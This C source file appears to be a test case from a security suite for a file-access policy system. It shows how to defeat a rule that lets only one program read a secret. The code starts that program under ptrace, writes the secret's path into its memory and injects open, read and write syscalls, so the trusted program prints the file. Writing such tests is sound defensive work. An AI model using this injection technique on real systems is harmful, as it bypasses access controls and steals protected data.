/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A program that may read the file, made to do so by another that traces it.
 *
 * The Allow spares one program. The attacker starts it, stops it at its first instruction, and lets it do other calls than
 * its own.
 *
 * ---
 * tries: [B7]
 * breaks:
 *   file:
 *     matchPaths:
 *     - path: "{v}/secret"
 *     - path: "{v}/secret"
 *       fromSource: [{path: "{v}/prog"}]
 *       action: Allow
 * alone: true
 * beyond: Programs that others drive
 * wins: secret
 */
#include "attack.h"
#include <sys/ptrace.h>
#include <sys/user.h>

static pid_t child;

/* Let the child do one system call at the place where it stands. */
static long call(long number, long a, long b, long c)
{
	struct user_regs_struct saved, r;

	ptrace(PTRACE_GETREGS, child, 0, &saved);
	r = saved;
	r.rax = number;
	r.rdi = a;
	r.rsi = b;
	r.rdx = c;
	ptrace(PTRACE_POKETEXT, child, saved.rip, 0x050f);
	ptrace(PTRACE_SETREGS, child, 0, &r);
	ptrace(PTRACE_SINGLESTEP, child, 0, 0);
	waitpid(child, NULL, 0);
	ptrace(PTRACE_GETREGS, child, 0, &r);
	ptrace(PTRACE_SETREGS, child, 0, &saved);
	return r.rax;
}

int main(void)
{
	const char *path = V("secret");
	struct user_regs_struct r;
	unsigned long room;
	long fd, n;

	child = fork();
	if (!child) {
		ptrace(PTRACE_TRACEME, 0, 0, 0);
		execl(V("prog"), "prog", NULL);
		_exit(1);
	}
	waitpid(child, NULL, 0);
	must(ptrace(PTRACE_GETREGS, child, 0, &r), "PTRACE_GETREGS");
	room = r.rsp - 4096;
	for (size_t i = 0; i <= strlen(path); i += 8)
		ptrace(PTRACE_POKEDATA, child, room + i, *(long *)(path + i));
	fd = call(SYS_open, room, O_RDONLY, 0);
	n = call(SYS_read, fd, room, 64);
	call(SYS_write, 1, room, n);
	kill(child, SIGKILL);
	return n > 0 ? 0 : 1;
}
